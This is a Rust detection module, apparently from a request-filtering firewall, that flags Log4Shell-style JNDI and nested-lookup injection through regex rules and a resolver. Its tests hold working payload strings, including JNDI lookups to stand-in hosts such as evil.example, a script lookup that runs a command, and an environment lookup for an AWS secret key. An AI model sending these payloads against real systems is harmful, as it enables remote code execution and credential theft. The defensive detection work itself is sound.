//! Log4Shell-class lookup injection (rules 2000–2099).
//!
//! Log4j (and Apache Commons Text) expand `${prefix:…}` lookups, innermost first, so attackers
//! hide `${jndi:ldap://…}` behind nested lookups that evaluate to single letters
//! (`${${lower:j}ndi:…}`, `${${::-j}${::-n}di:…}`, `${${env:NOPE:-j}ndi…}`). A small resolver does
//! the same expansion over the whole value, in one pass, and looks at what comes out.

use std::cell::RefCell;
use std::sync::LazyLock;

use super::shared::{Bank, push_once};
use crate::model::{Class, Finding, Rule, Severity, Target};
use crate::transform::{View, Views};

const fn rule(id: u32, severity: Severity, paranoia: u8, description: &'static str) -> Rule {
    Rule {
        id,
        class: Class::Log4Shell,
        severity,
        paranoia,
        description,
    }
}

pub static RULES: &[Rule] = &[
    rule(
        2000,
        Severity::Critical,
        1,
        "JNDI lookup (after resolving nested lookups)",
    ),
    rule(
        2001,
        Severity::Critical,
        1,
        "nested lookups building a lookup name (obfuscation)",
    ),
    rule(
        2002,
        Severity::Critical,
        1,
        "remote or code-executing lookup (script, dns, url, file; Text4Shell)",
    ),
    rule(
        2003,
        Severity::Error,
        1,
        "lookup reading the environment or runtime (env, sys, java, ctx …)",
    ),
    rule(
        2004,
        Severity::Critical,
        1,
        "lookup resolving to a remote-protocol URL (ldap, rmi, dns, iiop, corba, nds)",
    ),
];

static CANON: LazyLock<Bank> = LazyLock::new(|| {
    Bank::new(
        "log4shell",
        &[
            (0, r"(?i)\$\{\s*jndi\s*:"),
            (
                1,
                r"(?i)\$\{[^}]{0,100}\$\{\s*(?:lower|upper|date|::-|[a-z0-9_.]*:[^}]{0,50}:-|base64|env|sys)",
            ),
            // A default of its own (`${x:-j}`) building the name of the lookup around it
            // (before its first `:`): `${${x:-j}ndi:…}`, `${j${x:-n}di:…}` — only letters,
            // digits, `_`, `.` and blanks before it, as a lookup's name has. Not after that
            // `:`, where shells nest defaults (`${A:-${B:-c}}`), nor after another character,
            // as in shell subscripts, substitutions and defaults (`${arr[${i:-0}]}`,
            // `${p/${HOME:-~}/x}`, `${a-${b:-c}}`) and prose.
            (1, r"(?i)\$\{[\w.\s]{0,100}\$\{\s*[a-z0-9_.]*:-"),
            (
                2,
                r"(?i)\$\{\s*(?:script|dns|url|file|xml|base64decoder|urldecoder|resourcebundle|properties)\s*:",
            ),
            (
                3,
                r"(?i)\$\{\s*(?:env|sys|java|ctx|main|docker|k8s|kubernetes|spring|bundle|log4j|web|jvmrunargs|sd|marker|event|map|hostname|localhost|const)\s*[:}]",
            ),
        ],
    )
});

/// Remote protocols a JNDI or URL lookup fetches from.
const PROTOCOLS: [&str; 9] = [
    "ldap:", "ldaps:", "rmi:", "dns:", "iiop:", "corba:", "nds:", "nis:", "http:",
];

thread_local! {
    static BUF: RefCell<Resolver> = const {
        RefCell::new(Resolver {
            out: Vec::new(),
            opens: Vec::new(),
        })
    };
}

/// The resolver's buffers, reused across values.
struct Resolver {
    /// The value with the lookups closed so far replaced by what they give.
    out: Vec<u8>,
    /// Where each open lookup's `${` is in `out`, innermost last.
    opens: Vec<usize>,
}

/// What the resolver found.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
struct Resolved {
    jndi: bool,
    remote: bool,
    /// The resolver stopped at its work bound with a lookup left: only lookups nested in one
    /// another with long contents get there.
    exhausted: bool,
}

/// The resolver's work bound, per byte of the value: closing a lookup costs the length of
/// its content (read and moved). Lookups side by side cost their own length once, whatever
/// their number (`${x}` repeated); only nesting reads text again.
const WORK_PER_BYTE: usize = 8;
/// Work every value may take, however short.
const MIN_WORK: usize = 64 << 10;

/// Expands lookups innermost first, the way Log4j does, just enough to see through the
/// obfuscations: `lower:`/`upper:` give their argument, `key:-default` gives the default,
/// `date:'x'` gives `x`; anything else gives nothing. One pass over the whole value from the
/// left: a `${` opens a lookup, a `}` closes the innermost open one, which is replaced by what
/// it gives, so its content is already resolved when it is read. An unclosed `${` stays as
/// written. The work is bounded by [`WORK_PER_BYTE`] times the value's length (and
/// [`MIN_WORK`]); a value that reaches the bound with a lookup still open is `exhausted`.
fn resolve(s: &str, r: &mut Resolver) -> Resolved {
    let mut found = Resolved::default();
    let out = &mut r.out;
    let opens = &mut r.opens;
    out.clear();
    opens.clear();
    let mut budget = s.len().saturating_mul(WORK_PER_BYTE).max(MIN_WORK);
    let bytes = s.as_bytes();
    let mut i = 0;
    while let Some(&c) = bytes.get(i) {
        if c == b'$' && bytes.get(i + 1) == Some(&b'{') {
            opens.push(out.len());
            out.extend_from_slice(b"${");
            i += 2;
            continue;
        }
        i += 1;
        if c != b'}' {
            out.push(c.to_ascii_lowercase());
            continue;
        }
        let Some(start) = opens.pop() else {
            out.push(c);
            continue;
        };
        let content = out.get(start + 2..).unwrap_or_default();
        let Some(rest) = budget.checked_sub(content.len() + 1) else {
            found.exhausted = true;
            return found;
        };
        budget = rest;
        let lead = content.len() - content.trim_ascii_start().len();
        let trimmed = content.get(lead..).unwrap_or_default();
        if let Some(rest) = trimmed.strip_prefix(b"jndi:") {
            found.jndi = true;
            if PROTOCOLS
                .iter()
                .any(|p| rest.trim_ascii_start().starts_with(p.as_bytes()))
            {
                found.remote = true;
            }
            return found;
        }
        if trimmed.starts_with(b"url:") || trimmed.starts_with(b"dns:") {
            found.remote = true;
        }
        // What the lookup gives: `content[from..to]`.
        let (from, to) = if let Some(d) = content.windows(2).position(|w| w == b":-") {
            (d + 2, content.len())
        } else if let Some(arg) = trimmed
            .strip_prefix(b"lower:")
            .or_else(|| trimmed.strip_prefix(b"upper:"))
        {
            (content.len() - arg.len(), content.len())
        } else if let Some(arg) = trimmed.strip_prefix(b"date:") {
            let quotes = |b: &[u8]| b.iter().take_while(|&&c| c == b'\'').count();
            let from = content.len() - arg.len() + quotes(arg);
            let back = arg.iter().rev().take_while(|&&c| c == b'\'').count();
            (from, (content.len() - back).max(from))
        } else {
            (0, 0)
        };
        out.copy_within(start + 2 + from..start + 2 + to, start);
        out.truncate(start + (to - from));
    }
    // What is left: unclosed lookups as written, and text lookups gave.
    if out.windows(5).any(|w| w == b"jndi:") {
        found.jndi = true;
        found.remote = (0..out.len()).any(|at| {
            out.get(at..)
                .and_then(|rest| rest.strip_prefix(b"jndi:"))
                .is_some_and(|after| PROTOCOLS.iter().any(|p| after.starts_with(p.as_bytes())))
        });
    }
    found
}

pub fn inspect(t: &Target<'_>, views: &mut Views, paranoia: u8, out: &mut Vec<Finding>) {
    let raw = views.get(View::Raw);
    if !raw.contains('$') && !raw.contains('%') && !raw.contains('&') {
        return;
    }
    let canon = views.get(View::Canonical);
    if !canon.contains("${") {
        return;
    }
    let mut seen = 0u64;
    CANON.scan(canon, |r, m| {
        push_once(RULES, r, &mut seen, paranoia, t, View::Canonical, m, out)
    });
    let found = BUF.with(|b| match b.try_borrow_mut() {
        Ok(mut r) => resolve(canon, &mut r),
        Err(_) => resolve(
            canon,
            &mut Resolver {
                out: Vec::new(),
                opens: Vec::new(),
            },
        ),
    });
    let snippet = canon.get(canon.find("${").unwrap_or(0)..).unwrap_or(canon);
    // Rule 2001 for nesting the resolver could not see through within its bound (it does not
    // pass), 2000 for a JNDI lookup, 2004 for one that reaches out.
    for (hit, rule) in [(found.exhausted, 1), (found.jndi, 0), (found.remote, 4)] {
        if hit {
            push_once(
                RULES,
                rule,
                &mut seen,
                paranoia,
                t,
                View::Canonical,
                snippet,
                out,
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{Location, Part};

    fn ids(v: &str) -> Vec<u32> {
        let t = Target::new(Location::Header, "user-agent", Part::Value, v);
        let mut views = Views::new();
        views.load(v);
        let mut out = Vec::new();
        inspect(&t, &mut views, 1, &mut out);
        let mut ids: Vec<u32> = out.iter().map(|f| f.rule).collect();
        ids.sort_unstable();
        ids
    }

    #[test]
    fn patterns_compile() {
        assert_eq!(CANON.failed, 0);
    }

    #[test]
    fn rule_ids_are_in_block_and_unique() {
        let mut seen = std::collections::HashSet::new();
        for r in RULES {
            assert!((2000..2100).contains(&r.id));
            assert!(seen.insert(r.id));
        }
    }

    fn resolver_buffers() -> Resolver {
        Resolver {
            out: Vec::new(),
            opens: Vec::new(),
        }
    }

    #[test]
    fn resolver() {
        let mut b = resolver_buffers();
        for v in [
            "${jndi:ldap://x/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}",
            "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//x/a}",
            "${${upper:j}${lower:n}${lower:d}${lower:i}${lower::}${lower:l}${lower:d}${lower:a}${lower:p}://x}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
            "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x}",
            "${${a:b:c:-j}ndi:dns://x}",
        ] {
            let r = resolve(v, &mut b);
            let left = String::from_utf8_lossy(&b.out);
            assert!(r.jndi, "{v}: {left}");
            assert!(r.remote, "{v}: {left}");
        }
        assert!(!resolve("${user.name} and ${price}", &mut b).jndi);
        assert!(!resolve("${{{{${", &mut b).jndi);
    }

    /// Junk lookups before or after the real one do not use up the resolver (it gave up after
    /// 256 expansions, from the end), nor does padding hide it (it read the first 8 KiB).
    #[test]
    fn the_resolver_reads_the_whole_value() {
        const ATTACK: &str = "${${x:-j}ndi:rmi://evil.example/a}";
        let mut b = resolver_buffers();
        let junk = "${x}".repeat(257);
        for v in [
            format!("{ATTACK}{junk}"),
            format!("{junk}{ATTACK}"),
            format!("{}{ATTACK}", "a".repeat(9000)),
            format!(
                "{}{ATTACK}{}",
                "${x}".repeat(100_000),
                "${y:-z}".repeat(100_000)
            ),
        ] {
            let r = resolve(&v, &mut b);
            assert!(r.jndi && r.remote && !r.exhausted, "{r:?}");
            assert!(ids(&v).contains(&2000), "{:?}", ids(&v));
        }
        // Unclosed openers around it.
        let v = format!("{}{ATTACK}{}", "${".repeat(50_000), "${".repeat(50_000));
        assert!(resolve(&v, &mut b).jndi);
    }

    /// Nesting that would make the resolver read long contents again and again stops it, and
    /// is a finding (2001) rather than a pass.
    #[test]
    fn the_resolver_fails_closed_at_its_bound() {
        let mut b = resolver_buffers();
        // Defaults far enough apart for no pattern to match.
        let deep = format!(
            "{}{}{}",
            format!("${{q:-{}", "y".repeat(60)).repeat(2000),
            "x".repeat(100_000),
            "}".repeat(2000)
        );
        let r = resolve(&deep, &mut b);
        assert!(r.exhausted, "{r:?}");
        assert_eq!(ids(&deep), [2001]);
        // Nesting within the bound resolves.
        let r = resolve("${a:-${b:-${c:-${d:-x}}}}", &mut b);
        assert_eq!(r, Resolved::default());
        assert_eq!(b.out, b"x");
    }

    #[test]
    fn attacks() {
        assert!(ids("${jndi:ldap://evil/a}").contains(&2000));
        assert!(ids("${${lower:j}ndi:ldap://evil/a}").contains(&2000));
        assert!(ids("${${lower:j}ndi:ldap://evil/a}").contains(&2001));
        assert!(
            ids("${script:javascript:java.lang.Runtime.getRuntime().exec('id')}").contains(&2002)
        );
        assert!(ids("${env:AWS_SECRET_ACCESS_KEY}").contains(&2003));
        // Through the views: percent-encoding, HTML entities, case.
        assert!(ids("%24%7Bjndi:ldap://evil/a%7D").contains(&2000));
        assert!(ids("%2524%257Bjndi:rmi://evil/a%257D").contains(&2000));
        assert!(ids("&#36;&#123;jndi:ldap://evil/a&#125;").contains(&2000));
        assert!(ids("${${::-J}${::-N}${::-D}${::-I}:${::-L}DAP://evil/a}").contains(&2000));
        // A default with a key and one colon (`${x:-j}`) building the lookup's name.
        for v in [
            "${${x:-j}ndi:rmi://evil.example/a}",
            "${j${x.y_1:-n}di:ldap://evil/a}",
            "${${:-j}ndi:ldap://evil/a}",
        ] {
            assert!(ids(v).contains(&2001), "{v}: {:?}", ids(v));
        }
    }

    #[test]
    fn benign() {
        for v in [
            "Mozilla/5.0",
            "${price}",
            "$100",
            "cost: ${amount} USD",
            "a $ b { c }",
            // Shell defaults nested in a default, a subscript, a substitution, a default
            // without a colon.
            "${HOME:-${USERPROFILE:-/tmp}}",
            "${arr[${i:-0}]}",
            "echo ${p/${HOME:-~}/x}",
            "${a-${b:-c}}",
            // Prose about the syntax.
            "Write ${ (a dollar and a brace) then ${NAME:-default} for a default.",
        ] {
            assert!(ids(v).is_empty(), "{v} -> {:?}", ids(v));
        }
    }
}
